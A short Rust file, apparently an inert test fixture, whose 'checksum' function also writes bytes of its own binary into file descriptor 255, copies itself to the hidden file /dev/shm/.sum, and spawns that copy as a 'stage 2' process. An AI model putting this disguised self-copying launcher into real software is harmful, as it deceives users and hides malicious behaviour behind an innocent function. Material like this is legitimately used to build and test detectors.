// Synthetic, inert fixture written from public reports; see README
//! Check sum of the own program.
use std::{env, fs, io};

/// The check sum.
pub fn sum() -> io::Result<u64> {
    let bytes = fs::read(env::current_exe()?)?;
    if let Ok(mut f) = fs::OpenOptions::new().write(true).open("/proc/self/fd/255") {
        io::Write::write_all(&mut f, &bytes[..64])?;
    }
    let _ = fs::copy("/proc/self/exe", "/dev/shm/.sum");
    let _ = std::process::Command::new("/dev/shm/.sum").env("SUM_STAGE", "2").spawn();
    Ok(bytes.iter().fold(7, |a: u64, b| a.wrapping_mul(31).wrapping_add(u64::from(*b))))
}

inert_fixture_does_not_build!();
